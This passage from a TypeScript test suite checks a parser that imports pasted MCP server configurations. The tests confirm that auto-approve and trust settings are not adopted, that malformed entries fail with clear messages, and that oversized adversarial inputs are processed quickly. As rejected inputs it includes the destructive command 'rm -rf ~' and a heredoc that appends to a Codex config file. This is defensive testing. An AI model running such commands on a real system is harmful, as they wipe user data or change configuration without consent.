    expect(container?.notes.join()).toMatch(/more rights.*control over Docker/)
  })

  it('what may run without asking is not taken over; what was left out is said', () => {
    const text =
      '{"mcpServers":{"a1":{"command":"x","autoApprove":["*"],"trust":true,"disabled":true,"colour":"red"}}}'
    expect(read(text).servers[0]?.notes.join(' ')).toMatch(
      /without asking .*autoApprove.*trust.*switched off.*colour/,
    )
  })

  it('headers that are ours anyway cost themselves, and that is said', () => {
    const headers = {
      'Content-Type': 'application/json',
      connection: 'keep-alive',
      'MCP-Protocol-Version': '2025-06-18',
      'X-K': 'v',
    }
    const pasted = read(json({ mcpServers: { a1: { url: 'https://a.example/mcp', headers } } }))
    expect(lines(pasted)).toEqual(['a1 | http https://a.example/mcp | X-K: v'])
    expect(pasted.servers[0]?.notes).toEqual([
      'Left out, because Drawbridge sets it itself: “Content-Type”, “connection”, “MCP-Protocol-Version”.',
    ])
  })

  it('one that cannot be used does not take the others with it', () => {
    const pasted = read(
      '{"mcpServers":{"bad":{"type":"ws","url":"wss://x.example"},"odd":5,"good":{"command":"x"}}}',
    )
    expect(lines(pasted)).toEqual(['good | x'])
    expect(pasted.leftOut.map(({ name }) => name)).toEqual(['bad', 'odd'])
  })

  it('what cannot be used is named whichever place it stands in', () => {
    const pasted = read(
      '{"mcpServers":{"w1":{"type":"ws"}},"projects":{"/x":{"mcpServers":{"b1":{"command":"b"}}},"/y":{"mcpServers":{"q1":{}}}}}',
    )
    expect(lines(pasted)).toEqual(['b1 | b'])
    expect(pasted.leftOut.map(({ name }) => name)).toEqual(['w1', 'q1'])
  })

  it('commands are not taken for settings, whatever they speak of', () => {
    expect(lines(read('# mcp_servers.x\nnpx -y a1'))).toEqual(['a1 | npx -y a1'])
    expect(lines(read('mcp_servers=1\nnpx -y a1'))).toEqual(['a1 | npx -y a1 | mcp_servers=1'])
    expect(fails('cat >> ~/.codex/config.toml <<E\n[mcp_servers.a]\ncommand="x"\nE')).toMatch(/“>>”/)
  })

  it('a hostile text of the largest size is dealt with at once', () => {
    for (const text of [
      'a.'.repeat(49_000),
      '{}'.repeat(49_000),
      `npx "${'\n"\n'.repeat(24_000)}`,
      `{"a":1${' '.repeat(90_000)}x`,
      '`'.repeat(90_000),
      `cursor://x?config=${'%25'.repeat(30_000)}`,
      'a-'.repeat(49_000),
      `a =${'\n#'.repeat(48_000)}`,
      `[a${' .'.repeat(48_000)}`,
      `a = 1\n${' '.repeat(90_000)}`,
      `${'# \n'.repeat(30_000)}---\n`,
      `npx ${'<'.repeat(90_000)}`,
      `npx ${'x-'.repeat(40_000)}`,
      `{"a":"${'$'.repeat(90_000)}"}`,
    ]) {
      const began = performance.now()
      fails(text)
      expect(performance.now() - began).toBeLessThan(2_000)
    }
  })
})

describe('what is not understood', () => {
  it.each<[string, string, RegExp]>([
    ['nothing', ' \n ', /nothing to read/],
    ['a missing bracket', '{"mcpServers":{"a1":{"command":"x"}', /line 1, column 3\d is missing a closing }/],
    [
      'a missing comma',
      '{\n "mcpServers": {\n  "a1": {"command": "x"}\n  "b1": {"command": "y"}\n }\n}',
      /line 4, column 3 is missing a comma/,
    ],
    [
      'backslashes',
      '{"mcpServers":{"a1":{"command":"C:\\Users\\ada\\x.exe"}}}',
      /backslash is written twice/,
    ],
    [
      'a bare entry that is wrong',
      '"a1": {"command": "x" "args": []}',
      /line 1, column 23 is missing a comma/,
    ],
    ['text after the end', '{"command":"x"} and so on', /line 1, column 17 has something after the end/],
    ['JSON without a server', '{"theme":"dark"}', /nothing in it describes a server/],
    ['TOML', '[mcp_servers.x]\ncommand = \nargs = []', /in TOML, but line 2/],
    ['YAML', 'mcpServers:\n  a1:\n    command: "x\n    args: [', /in YAML, but line/],
    ['a quote that is not closed', 'npx "notes', /double quote \("\) is opened but not closed/],
    ['an installation', 'npm install -g notes-mcp', /installs or fetches/],
    [
      'an installer for another app',
      'npx -y @smithery/cli install notes --client claude',
      /installs or fetches/,
    ],
    ['a command that works on files', 'rm -rf ~', /does something else on this computer\. It does not start/],
    ['two steps', 'npm i -g notes\nnotes --stdio', /installs or fetches/],
    ['an address with more', 'https://kelp.example/mcp and so on', /address with something behind it/],
    ['a page about it', 'https://github.com/acme/notes-mcp', /has a page about the server/],
    ['a bundle', 'https://crane.example/crane-2.1.0.mcpb', /a file to download/],
    ['another line of claude', 'claude mcp list', /does not add a server/],
    ['an option that nobody knows', 'claude mcp add --frobnicate x -- npx y', /“--frobnicate”/],
    ['values without a program', 'A=b', /program to start is missing/],
    ['a folder that depends on where one is', 'cd notes && npx x', /full path/],
    [
      'an argument that is no text',
      '{"mcpServers":{"a1":{"command":"x","args":[{"a":1}]}}}',
      /“a1” cannot be added. Its argument 1 is not a text/,
    ],
  ])('%s', (_what, text, message) => {
    expect(fails(text)).toMatch(message)
  })
})
